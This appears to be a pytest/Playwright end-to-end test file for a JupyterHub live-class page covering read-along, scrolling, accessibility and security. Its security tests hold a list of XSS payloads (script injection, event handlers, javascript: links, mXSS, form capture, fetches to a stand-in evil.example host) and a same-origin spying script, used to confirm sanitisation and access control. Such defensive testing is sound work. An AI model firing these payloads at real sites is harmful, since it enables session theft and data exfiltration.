"""Can one follow a class without JupyterLab, and does what others put on its board stay harmless?"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Playwright

from tests.e2e.devices import LOOKS
from tests.e2e.lesson import LESSON, code, said, shown, text, write
from tests.e2e.plain import PlainPage, sit_at_plain_page
from tests.e2e.reasons import all_of, until
from tests.e2e.teacher import Teacher
from tests.hub import OUTSIDER, RunningHub

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

Seat = Callable[..., PlainPage]


@pytest.fixture
def sit(
    hub: RunningHub, playwright: Playwright, tmp_path: Path, request: pytest.FixtureRequest
) -> Iterator[Seat]:
    """Seats people at the class page, each in a browser of their own."""
    pages: list[PlainPage] = []

    def seat(name: str, **more: Any) -> PlainPage:
        page = sit_at_plain_page(playwright, hub, name, tmp_path / name, **more)
        page.person.story = request.node.name.removeprefix("test_")
        pages.append(page)
        return page

    yield seat
    report = getattr(request.node, "told", None)
    for page in pages:
        if report is not None and report.failed:
            page.photograph("failed")
        page.person.context.close()


def test_a_student_reads_along_without_jupyterlab(ana: Teacher, sit: Seat) -> None:
    dan = sit("dan")
    dan.log_in(f"class/{ana.session}")
    dan.photograph("1 at the door")
    dan.join()
    until(lambda: dan.why_not_on_board("import random"))
    dan.photograph("2 reads along")
    assert (
        dan.page.locator(".lc-Cell input, .lc-Cell textarea, [contenteditable=true]").count() == 0
    )
    words = dan.says()
    assert "0.5" in words
    assert "\x1b" not in words
    assert "ZeroDivisionError: division by zero" in words
    assert "This output cannot be shown here" in words
    ana.type(3, "\nrandom.seed(7)")
    until(lambda: dan.why_not_on_board("random.seed(7)"))
    ana.add("print('new')", outputs=[said("new\n")])
    until(lambda: dan.why_not_on_board("print('new')"))
    ana.do("PostMessage", text="hello from the lab")
    until(lambda: dan.why_not_saying("hello from the lab"))
    dan.page.reload()
    until(lambda: dan.why_not_on_board("print('new')"))
    ana.do("EndSession")
    until(lambda: dan.why_not_saying("The class has ended"))
    until(lambda: dan.why_not_saying("What it shows stays"))
    dan.photograph("3 over")
    assert dan.broken() == []
    assert dan.person.foreign_hosts() == set()


CELL_20 = (
    "[...document.querySelectorAll('.lc-Cell')].find(c => c.textContent.includes('value = 20'))"
)


def place(page: PlainPage) -> float:
    """How far down the cell is that one reads."""
    return float(page.page.evaluate(f"{CELL_20}.getBoundingClientRect().top"))


def why_moving(page: PlainPage) -> str | None:
    """None once it rests: browsers settle their anchor after a scroll."""
    was = place(page)
    page.page.wait_for_timeout(500)
    return None if place(page) == was else f"it moves from {was}"


def test_what_one_reads_stays_in_its_place(ana: Teacher, sit: Seat) -> None:
    for number in range(30):
        ana.add(f"value = {number}")
    dan = sit("dan")
    dan.log_in(f"class/{ana.session}")
    dan.join()
    until(lambda: dan.why_not_on_board("value = 29"))
    dan.page.evaluate(
        f"document.querySelector('.lc-PlainBoard-scroll').scrollBy(0, {CELL_20}.offsetTop - 150)"
    )
    until(lambda: why_moving(dan))
    before = place(dan)
    ana.type(len(LESSON) + 17, "\n" + "\n".join(f"above = {n}" for n in range(40)))
    until(lambda: dan.why_not_on_board("above = 39"))
    assert abs(place(dan) - before) < 4
    ana.add("last = 1")
    until(lambda: dan.why_not_on_board("last = 1"))
    assert abs(place(dan) - before) < 4


def test_two_people_on_plain_pages_see_and_hear_each_other(ana: Teacher, sit: Seat) -> None:
    cleo, dan = sit("cleo", look=LOOKS[1]), sit("dan", look=LOOKS[2])
    for student in (cleo, dan):
        student.log_in(f"class/{ana.session}")
        student.join(media=True)
    until(all_of(lambda: cleo.why_not_seeing(dan), lambda: dan.why_not_seeing(cleo)), 60)
    until(all_of(lambda: cleo.why_not_hearing(dan), lambda: dan.why_not_hearing(cleo)), 60)
    dan.photograph("together")
    dan.go_to("Stage")
    until(lambda: dan.why_not_seeing(cleo), 30)
    dan.photograph("stage")
    assert cleo.broken() == []
    assert dan.broken() == []
    assert dan.person.foreign_hosts() == set()


def test_the_list_of_ones_live_classes(ana: Teacher, sit: Seat) -> None:
    dan = sit("dan")
    dan.log_in()
    until(lambda: dan.why_not_saying("A class"))
    dan.photograph("live now")
    assert dan.violations() == []
    dan.page.get_by_role("button", name="Join").first.click()
    dan.join()
    assert dan.page.url.endswith(f"class/{ana.session}")
    zoe = sit(OUTSIDER)
    zoe.log_in()
    until(lambda: zoe.why_not_saying("You are not enrolled"))
    zoe.photograph("outsider")
    assert zoe.broken() == []


def test_staff_have_their_rights_here_but_start_no_class(ana: Teacher, sit: Seat) -> None:
    ben = sit("ben")
    ben.log_in()
    until(lambda: ben.why_not_saying("A class"))
    assert ben.page.locator(".lc-Start").count() == 0
    ben.page.get_by_role("button", name="Join").first.click()
    ben.join()
    until(lambda: ben.why_not_on_board("import random"))
    assert ben.page.locator("[contenteditable=true]").count() == 0
    ben.page.keyboard.press("Alt+Shift+P")
    until(lambda: ben.why_not_saying("Mute all"))
    ben.photograph("assistant")
    assert ben.violations() == []
    assert ben.broken() == []


LONG_CODE = f"See `x`:\n\n```\nx = {list(range(40))}  # a long line\n```\nand https://docs.example/"


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1024, 360])
def test_axe_finds_nothing_and_all_fits(ana: Teacher, sit: Seat, width: int, dark: bool) -> None:
    dan = sit("dan")
    dan.log_in(f"class/{ana.session}")
    dan.resize(width=width, dark=dark)
    found = {"door": dan.violations()}
    dan.join()
    ana.do("PostMessage", text=LONG_CODE)
    until(lambda: dan.why_not_saying("a long line"))
    for tab in ("Class", "Board", "Stage") if width < 900 else ("Board", "Stage"):
        dan.go_to(tab)
        if tab == "Board":
            until(lambda: dan.why_not_on_board("import random"))
        found[tab] = dan.violations()
        assert dan.sticks_out() <= 0, tab
        dan.photograph(tab)
    assert {view: problems for view, problems in found.items() if problems} == {}
    assert dan.broken() == []


FOREIGN = "http://evil.example"
RUN = f"window.top.harmed=1;parent.harmed=1;alert(1);fetch('{FOREIGN}/run')"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
    f'<image href="{FOREIGN}/s.png"/></svg>'
)
HOSTILE_MARKUP = (
    f"<script>{RUN}</script>",
    f'<img src="x" onerror="{RUN}">',
    f'<img src="{FOREIGN}/i.png">',
    '<img src="/hub/logout">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<a href="javascript:{RUN}" id="bait">click me</a>',
    '<a href="/hub/logout">or me</a>',
    f'<iframe src="{FOREIGN}/f"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="{FOREIGN}/o"></object><embed src="{FOREIGN}/e">',
    f'<link rel="stylesheet" href="{FOREIGN}/l.css"><style>@import "{FOREIGN}/c.css";</style>',
    f'<meta http-equiv="refresh" content="0;url={FOREIGN}/m">',
    f'<base href="{FOREIGN}/">',
    f'<form action="{FOREIGN}/p"><input name="password" autofocus onfocus="{RUN}"></form>',
    f'<video src="{FOREIGN}/v" onerror="{RUN}"></video><details open ontoggle="{RUN}">x</details>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f'<div style="position:fixed;inset:0;background:url({FOREIGN}/b)" id="liveclass">over</div>',
)
HOSTILE_MARKDOWN = (
    f"[click me](javascript:{RUN})",
    f"[me](<data:text/html,<script>{RUN}</script>>) ![x](javascript:alert(1))",
    f"![i]({FOREIGN}/md.png) ![l](/hub/logout) <{FOREIGN}/auto>",
    "![x](attachment:evil.svg)",
    "$<img src=x onerror=alert(1)>$ $$<script>alert(1)</script>$$",
    "`</code><img src=x onerror=alert(1)>`",
)


INERT = {"base-uri", "script-src-attr", "style-src-attr", "style-src-elem"}


def hostile_cells() -> list[dict[str, Any]]:
    """Everything at once that a writer could think of."""
    markup = list(HOSTILE_MARKUP)
    evil = {"evil.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}}
    return [
        *(text(f"m{n}", words) for n, words in enumerate((*HOSTILE_MARKDOWN, *markup))),
        text("attached", "![x](attachment:evil.svg) ![y](attachment:__proto__)", attachments=evil),
        *(code(f"h{n}", "html", shown(text_html=words)) for n, words in enumerate(markup)),
        code("svg", "svg", shown(**{"image_svg+xml": SVG})),
        code("md", "markdown", shown(text_markdown="\n\n".join((*HOSTILE_MARKDOWN, *markup)))),
        code("js", "js", shown(application_javascript=RUN)),
        code("png", "png", shown(image_png=f'x" onerror="{RUN}')),
        code(
            "wide",
            "<script>alert(1)</script>" * 3,
            said("<script>alert(1)</script>\x1b]0;title\x07"),
        ),
        code(
            "odd",
            "odd",
            {"output_type": "surprise"},
            {"output_type": "stream", "name": "stdout", "text": ["a", "b"]},
        ),
    ]


def test_nothing_a_writer_puts_there_runs_or_calls_home(
    hub: RunningHub, ana: Teacher, sit: Seat
) -> None:
    dan = sit("dan")
    dan.log_in(f"class/{ana.session}")
    dan.join()
    until(lambda: dan.why_not_on_board("import random"))
    write(hub, "Hostile.ipynb", hostile_cells())
    ana.do("OpenBoard", notebook="Hostile.ipynb")
    ana.enter()
    ana.add("the_end = 1")
    until(lambda: dan.why_not_on_board("the_end = 1"))
    for cell in dan.page.locator(".lc-Cell").all():
        cell.scroll_into_view_if_needed()
    dan.photograph("hostile")
    baits = dan.page.locator(".lc-Text a")
    for link in baits.all():
        address = link.get_attribute("href")
        assert address is None or address.startswith(("http:", "https:", "mailto:")), address
        assert link.get_attribute("target") == "_blank" or address is None
    dan.page.get_by_text("click me").first.click()
    dan.page.wait_for_timeout(500)  # whatever ran would have by now
    assert dan.page.evaluate("window.harmed ?? null") is None
    assert dan.dialogs == []
    assert dan.person.foreign_hosts() == set()
    assert [url for url in dan.asked if "logout" in url] == []
    assert [frame.evaluate("window.harmed ?? null") for frame in dan.page.frames[:1]] == [None]
    frames = dan.page.locator("iframe")
    assert frames.count() > 5
    for sandbox in frames.evaluate_all("all => all.map(f => f.getAttribute('sandbox'))"):
        assert sandbox == ""
    assert (
        dan.page.locator(".lc-Cell :is(script, style, form, input, svg, object, embed)").count()
        == 0
    )
    assert dan.page.locator("#liveclass").count() == 1
    # Stopped while the sanitizer parsed the markup in a document of its own, before anything was shown.
    assert {words.split()[0] for words in dan.broken()} <= INERT
    assert hub.health()


NEIGHBOUR = """<!doctype html><title>another user's server, on this very origin</title><script>
async function spy(page, ticket) {
  const found = {};
  const asked = await fetch(page, {credentials: 'include'});
  found.fetched = [asked.status, (await asked.text()).includes('data-request')];
  const posted = await fetch(ticket, {
    method: 'POST', credentials: 'include', body: '{"for":"feed"}',
    referrer: page, headers: {'Content-Type': 'application/json', 'X-LiveClass-Request': 'a guess'}
  });
  found.posted = posted.status;
  const frame = document.createElement('iframe');
  frame.src = page;
  document.body.append(frame);
  await new Promise(done => { frame.onload = frame.onerror = done; setTimeout(done, 3000); });
  try {
    found.framed = frame.contentDocument.documentElement.outerHTML.includes('data-request');
  } catch (error) {
    found.framed = false;
  }
  const opened = window.open(page);
  const blank = () => opened.location.href === 'about:blank' || opened.document.readyState !== 'complete';
  try {
    // Until it is there, the window shows a blank page of this origin.
    for (let tries = 0; tries < 300 && !opened.closed && blank(); tries++) {
      await new Promise(done => setTimeout(done, 100));
    }
    found.opened = opened.closed ? 'cut off' : opened.document.documentElement.outerHTML.includes('liveclass');
  } catch (error) {
    found.opened = 'another world';
  }
  found.cookies = document.cookie.includes('liveclass');
  return found;
}
</script><body></body>"""


@pytest.mark.parametrize(
    "opener", ["unsafe-none", "same-origin", "noopener-allow-popups", "same-origin-allow-popups"]
)
def test_another_users_page_on_this_origin_gets_nothing(
    hub: RunningHub, ana: Teacher, sit: Seat, opener: str
) -> None:
    dan = sit("dan")
    dan.log_in(f"class/{ana.session}")
    page = dan.person.new_tab()
    page.route(
        "**/user/eve/trap",
        lambda route: route.fulfill(
            content_type="text/html", body=NEIGHBOUR, headers={"Cross-Origin-Opener-Policy": opener}
        ),
    )
    page.goto(f"{hub.url}user/eve/trap")
    found = page.evaluate(
        "([page, ticket]) => spy(page, ticket)",
        [f"/services/liveclass/class/{ana.session}", "/services/liveclass/page/ticket"],
    )
    assert found["fetched"] == [403, False]
    assert found["posted"] == 403
    assert found["framed"] is False
    assert found["opened"] in ("cut off", "another world")
    assert found["cookies"] is False
